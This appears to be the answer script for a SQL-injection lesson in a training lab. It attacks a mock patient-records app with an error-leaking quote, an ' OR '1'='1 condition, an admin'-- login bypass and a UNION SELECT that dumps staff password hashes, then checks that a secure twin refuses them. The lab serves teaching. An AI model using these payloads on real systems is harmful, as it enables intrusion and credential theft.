"""Lesson "SQL injection": every challenge, solved from Python.

Save the lab's CA as safelab-ca.pem next to this script (the app's "Download the
lab's CA"), then run:  python challenges.py
Each step prints what the server answered; the lab marks each challenge solved
the moment it sees it done.
"""

import sys

import requests

HTTP = "{{http}}"
HTTPS = "{{https}}"
CA = "safelab-ca.pem"
INSECURE = f"{HTTP}/lab/insecure"
SECURE = f"{HTTPS}/lab/secure"
UNION = "' UNION SELECT id, username, password_hash, role, full_name FROM staff --"


def check(condition: bool, message: str) -> None:
    """Stops with a message when the lab did not answer as the lesson says."""
    if not condition:
        sys.exit(f"unexpected: {message}")


def main() -> None:
    # An ordinary search, the way the app means it.
    found = requests.get(f"{INSECURE}/patients", params={"name": "garcia"}, timeout=10)
    check(found.status_code == 200, f"a plain search answered {found.status_code}")
    print("a search:", found.json()["count"], "patients named Garcia")

    # leak-error: a quote ends the SQL string early; the 500 shows the error and the SQL.
    leak = requests.get(f"{INSECURE}/patients", params={"name": "O'Brien"}, timeout=10)
    check(leak.status_code == 500, f"O'Brien answered {leak.status_code}, not 500")
    check("sql" in leak.json(), "the 500 does not show the SQL")
    print("leak-error:", leak.json()["error"])
    print("   ", leak.json()["sql"])

    # Boolean-based: a condition that is always true returns every patient.
    everyone = requests.get(f"{INSECURE}/patients", params={"name": "' OR '1'='1"}, timeout=10).json()
    nobody = requests.get(f"{INSECURE}/patients", params={"name": "' AND '1'='2"}, timeout=10).json()
    check(everyone["count"] > nobody["count"], "' OR '1'='1 did not widen the search")
    print("boolean:", everyone["count"], "patients for ' OR '1'='1,", nobody["count"], "for ' AND '1'='2")

    # bypass-login: a comment cuts the password check off the query.
    login = requests.post(
        f"{INSECURE}/staff/login", data={"username": "admin'--", "password": "anything"}, timeout=10
    )
    check(login.status_code == 200 and login.json()["logged_in"], f"admin'-- answered {login.text}")
    print("bypass-login: logged in as", login.json()["staff"]["full_name"])

    # dump-staff: UNION SELECT appends the staff table to the search.
    dump = requests.get(f"{INSECURE}/patients", params={"name": UNION}, timeout=10).json()
    staff = {row["first_name"]: row["last_name"] for row in dump["patients"]}
    check("admin" in staff, f"the union answered {dump}")
    for username, password_hash in staff.items():
        print(f"dump-staff: {username:14} {password_hash}")

    # secure-holds: the same payloads, refused or treated as data by the secure twin.
    refused = requests.get(f"{SECURE}/patients", params={"name": UNION}, timeout=10, verify=CA)
    check(refused.status_code == 400, f"the secure search answered {refused.status_code}")
    check(refused.json()["field"] == "name", f"the 400 names {refused.json()}")
    print("secure-holds:", refused.status_code, refused.json()["error"][:90])
    refused = requests.post(
        f"{SECURE}/staff/login",
        data={"username": "admin'--", "password": "anything"},
        timeout=10,
        verify=CA,
    )
    check(refused.status_code == 400, f"the secure login answered {refused.status_code}")
    print("secure-holds:", refused.status_code, refused.json()["error"][:90])
    obrien = requests.get(f"{SECURE}/patients", params={"name": "O'Brien"}, timeout=10, verify=CA)
    check(obrien.status_code == 200, f"O'Brien answered {obrien.status_code} on the secure twin")
    print("secure-holds: O'Brien is a name:", obrien.json()["count"], "patients")


if __name__ == "__main__":
    main()
